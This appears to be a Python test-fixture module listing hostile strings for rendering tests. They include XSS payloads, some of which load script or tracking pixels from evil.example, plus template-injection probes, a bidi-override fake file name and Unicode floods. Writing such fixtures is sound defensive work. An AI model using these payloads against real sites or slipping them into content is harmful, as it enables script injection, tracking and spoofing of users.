"""Texts and names that try to be more than text. Every escape in here is deliberate."""

from typing import Final

ZALGO: Final = "".join(letter + "\u0300\u0316\u0321\u0334\u0489\u035c\u0362" * 6 for letter in "HE COMES")
FLOOD: Final = "o" + "\u0308\u0332\u20dd" * 10
FAMILY: Final = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"

TEXTS: Final = {
    "script": "<script>alert(1)</script>",
    "closing script": "</script><script src=https://evil.example/x.js></script>",
    "img onerror": "<img src=x onerror=alert(1)><img src='//evil.example/pixel.gif'>",
    "svg onload": "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "style": "</style><style>*{display:none!important}</style>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><base href=https://evil.example/>",
    "comment": "<!-- --!><b>bold</b> <![CDATA[ x ]]> <plaintext><textarea>",
    "javascript link": "javascript:alert(1) JaVaScRiPt:alert(1) <a href=javascript:alert(1)>x</a>",
    "data link": "data:text/html,<script>alert(1)</script> blob:https://evil.example/1 vbscript:msgbox(1)",
    "markdown": "[click](javascript:alert(1)) ![pixel](https://evil.example/pixel.gif) # heading **bold** `code`",
    "entities": "&lt;script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;amp; &nbsp;&#0;",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> {%raw%}",
    "attribute": "\"' onmouseover=alert(1) x=\"'`><b>",
    "bidi": "user \u202egnp.exe\u202c \u2066isolated \u2067never closed \u202d\u202e\u061c abc",
    "zalgo": ZALGO,
    "combining flood": FLOOD * 20,
    "zero width": "in\u200bvis\u200cib\u200dle\ufeff \u2060\u00ad\u180e" + "\u200b" * 500 + "end",
    "emoji": (FAMILY + " \U0001f3f4\U000e0067\U000e0062\U000e007f \U0001f1e9\U0001f1ea") * 20,
    "hebrew": "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b> (abc) 123",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 https://example.org/ \u0628\u0627\u0644\u0639\u0627\u0644\u0645!",
    "no space": "x" * 5_000,
    "wide": "\ufdfd" * 300 + "\U00012031" * 100 + "\u2e3b" * 100,
    "long address": "https://example.org/" + "a%20b/" * 400 + "?q=" + "z" * 1_000,
    "lines": "line\n" * 400 + "end",
    "blanks": "a" + "\t" * 300 + "b" + " \u3000\u2003" * 300 + "c\u2028d\u2029e",
    "prototype": "__proto__ constructor toString hasOwnProperty",
}

NAMES: Final = {
    "script": "<script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "combining flood": FLOOD,
    "zalgo": ZALGO[:32],
    "bidi": "\u202enimdA\u2066\u2067",
    "no space": "W" * 32,
    "wide": "\ufdfd" * 32,
    "zero width": "\u200b\u200c\u200d\u2060",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd",
    "emoji": FAMILY * 4,
    "template": "{{7*7}}${7*7}",
    "prototype": "__proto__",
}
